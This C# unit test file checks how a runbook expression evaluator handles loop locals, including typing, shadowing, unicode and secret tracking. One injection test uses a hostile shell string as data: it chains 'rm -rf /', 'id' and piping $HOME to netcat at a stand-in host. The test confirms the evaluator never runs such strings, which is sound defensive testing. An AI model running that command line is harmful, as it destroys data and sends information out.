using System.Collections.Immutable;
using Runbook.Language.Diagnostics;
using Runbook.Language.Expressions;
using Runbook.Language.Expressions.Evaluation;
using Runbook.Language.Text;

namespace Runbook.Language.Tests.ForEach;

/// <summary>How the evaluator reads a fan-out's item and item_index (EvaluationContext.Locals).</summary>
public sealed class ItemEvaluationTests
{
    private static EvaluationContext With(params (string Name, object? Value)[] locals) => EvaluationContext.Empty with
    {
        Inputs = new Dictionary<string, object?> { ["region"] = "eu" },
        Locals = locals.ToDictionary(l => l.Name, l => l.Value, StringComparer.Ordinal),
    };

    private static object? Eval(string text, EvaluationContext context)
    {
        var bag = new DiagnosticBag();
        var template = TemplateParser.Parse(text, SourceLocator.Fixed(SourceSpan.None("t")), SourceSpan.None("t"), bag);
        Assert.False(bag.HasErrors, string.Join("\n", bag.Items));
        return new ExpressionEvaluator(context).EvaluateValue(template);
    }

    [Fact]
    public void The_item_and_item_index_read_as_bare_names_with_their_types()
    {
        var context = With(("item", "api"), ("item_index", 2L));

        Assert.Equal("api", Eval("${{ item }}", context));
        Assert.Equal(2L, Eval("${{ item_index }}", context));
        Assert.Equal("api#3 in eu", Eval("${{ item }}#${{ item_index + 1 }} in ${{ inputs.region }}", context));
    }

    [Fact]
    public void An_entry_of_a_mapping_reads_as_key_and_value()
    {
        var entry = new Dictionary<string, object?> { ["key"] = "api", ["value"] = 3m };

        Assert.Equal("api=3", Eval("${{ item.key }}=${{ item.value }}", With(("item", entry), ("item_index", 0L))));
    }

    [Fact]
    public void A_renamed_item_is_read_by_its_name()
    {
        Assert.Equal("worker", Eval("${{ svc }}", With(("svc", "worker"), ("item_index", 1L))));
    }

    [Theory]
    [InlineData("${{ inputs.region }}")]
    [InlineData("$(rm -rf /); `id`; echo $HOME | nc x 1 && exit")]
    [InlineData("{{ item }} {% raw %}")]
    public void An_item_whose_text_looks_like_an_expression_or_shell_code_is_a_value_and_never_evaluated(string text)
    {
        Assert.Equal(text, Eval("${{ item }}", With(("item", text))));
        Assert.Equal("x" + text, Eval("x${{ item }}", With(("item", text))));
    }

    [Fact]
    public void A_unicode_and_a_very_long_item_come_back_unchanged()
    {
        var unicode = "сервис-ñ-🚀-\u200b-日本";
        var longItem = new string('a', 50_000);

        Assert.Equal(unicode, Eval("${{ item }}", With(("item", unicode))));
        Assert.Equal(longItem, Eval("${{ item }}", With(("item", longItem))));
    }

    [Fact]
    public void A_local_never_hides_inputs_steps_env_run_or_a_function()
    {
        var context = With(("inputs", "hijacked"), ("contains", "hijacked"), ("item", "api"));

        Assert.Equal("eu", Eval("${{ inputs.region }}", context));
        Assert.Equal(true, Eval("${{ contains(item, 'p') }}", context));
    }

    [Fact]
    public void Without_locals_item_is_not_a_name_at_run_time_either()
    {
        Assert.Throws<ExpressionException>(() => Eval("${{ item }}", EvaluationContext.Empty));
    }

    [Fact]
    public void An_item_that_holds_a_known_secret_counts_as_a_secret_read()
    {
        var context = With(("item", "s3cr3t-value")) with
        {
            Secrets = SecretSources.None with { Reveals = text => text.Contains("s3cr3t", StringComparison.Ordinal) },
        };
        var bag = new DiagnosticBag();
        var template = TemplateParser.Parse("${{ item }}", SourceLocator.Fixed(SourceSpan.None("t")), SourceSpan.None("t"), bag);

        var tracked = new ExpressionEvaluator(context).EvaluateTracked((ExpressionPart)template.Parts[0]);

        Assert.True(tracked.ReadsSecret);
    }

    [Fact]
    public void A_list_input_value_reads_as_a_list()
    {
        var context = EvaluationContext.Empty with
        {
            Inputs = new Dictionary<string, object?> { ["services"] = ImmutableArray.Create<object>("api", "worker") },
        };

        Assert.Equal("api+worker", Eval("${{ join(inputs.services, '+') }}", context));
        Assert.Equal(2L, Eval("${{ array.size(inputs.services) }}", context));
    }
}
